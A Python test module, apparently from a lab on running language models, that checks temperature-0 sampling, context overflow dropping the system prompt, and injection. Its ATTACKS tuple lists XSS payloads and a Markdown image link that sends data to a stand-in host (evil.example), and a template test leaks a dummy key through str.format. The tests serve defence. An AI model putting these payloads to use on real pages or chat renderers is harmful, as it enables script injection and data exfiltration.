"""Break: temperature 0, a conversation that overflows, text that commands."""

import asyncio
from itertools import pairwise
from string import Formatter

from markdown_it import MarkdownIt

from .inert import filled, inert
from .room import by_guess, fit
from .sampler import drawn, shaped

ATTACKS = ("<script>steal()", "<img src=x onerror=steal()>", "![x](http://evil.example/?q=all)",
           "<svg/onload=steal()>", "<iframe src=//evil.example>", "a < b and c > d",
           "**bold** [link](/x)")  # fmt: skip


def zero(lab):
    """Temperature 0: always the same answer, and without end where a text runs in circles."""
    found, draws = {}, lab.config.draws
    question = [{"role": "user", "content": "Tell me a story about the mill."}]
    ids = lab.words.chat_ids(question, add_generation_prompt=True)
    for temperature in (0.0, 0.7, 1.5):
        texts, stutter = set(), 0.0
        for draw in range(draws):
            text = written(lab, ids, temperature, 24, seed=draw)
            texts.add(tuple(text))
            pairs = list(pairwise(text))
            stutter += (1 - len(set(pairs)) / max(1, len(pairs))) / draws
        found |= {f"different of {draws} at {temperature}": len(texts), f"repeated at {temperature}": stutter}
        lab.say(f"  temperature {temperature}: {len(texts)} different answers of {draws}; {stutter:.0%} of "
                "the pairs of tokens are repeats")  # fmt: skip
    return found


def written(lab, ids, temperature, n, seed):
    """n tokens behind ids, drawn by the page's own sampler."""
    from common.sampling import draw

    text = []
    for i in range(n):
        shares = shaped(lab.logits([*ids, *text]), temperature)
        text.append(drawn(shares, draw(seed, i)))
    return text


def overflow(lab):
    """A conversation longer than the context: cut by a guess at characters, and by counting tokens."""
    room, refused, lost = 150, {"by guess": 0, "counted": 0}, {"by guess": 0, "counted": 0}
    said = [{"role": "system", "content": "You are Mara from Tinytown. Speak as Mara."}]

    async def count(messages):
        return len(lab.words.chat_ids(messages, add_generation_prompt=True))

    async def play():
        start = 0
        for i in range(lab.config.turns):
            code = f"x{i} = [{i}, {i + 1}, {i * 7}]; 日本語 ({'#' * 9})"
            said.append({"role": "user", "content": f"What does this do? {code}"})
            exact, start = await fit(said, count, room, start)
            for name, sent in (("by guess", by_guess(said, room)), ("counted", exact)):
                refused[name] += await count(sent) > room
                lost[name] += sent[0]["role"] != "system"
            said.append({"role": "assistant", "content": "I do not know what that does. " * 3})

    asyncio.run(play())
    for name in refused:
        lab.say(f"  {name}: of {lab.config.turns} turns {refused[name]} would be refused as too long, "
                f"{lost[name]} go without the system prompt")  # fmt: skip
    return {**{f"refused, {k}": v for k, v in refused.items()}, **{f"lost, {k}": v for k, v in lost.items()}}


class Secret:
    """What a template must not reach."""

    key = "sk-12345"

    def __str__(self):
        return "Mara"


def commands(text):
    """Does a parser of Markdown that allows HTML find a tag or an image?"""
    tokens = MarkdownIt("commonmark", {"html": True}).parse(text)
    kinds = {one.type for token in tokens for one in [token, *(token.children or ())]}
    return bool(kinds & {"html_block", "html_inline", "image"})


def injection(lab):
    """What gets through: HTML in Markdown as it is, without "<script", inert; and templates."""
    ways = {"as it is": str, "without <script": lambda text: text.replace("<script", ""), "inert": inert}
    found = {name: sum(commands(way(attack)) for attack in ATTACKS) for name, way in ways.items()}
    for name, n in found.items():
        lab.say(f"  {name}: {n} of {len(ATTACKS)} texts command")
    template = "You are {name.key}."
    leaked = Formatter().format(template, name=Secret())
    safe = filled(template, {"name": str(Secret())})
    lab.say(f"  {template!r} by str.format: {leaked!r}; by filled: {safe!r}")
    return {**found, "str.format leaks": float("sk-" in leaked), "filled leaks": float("sk-" in safe)}
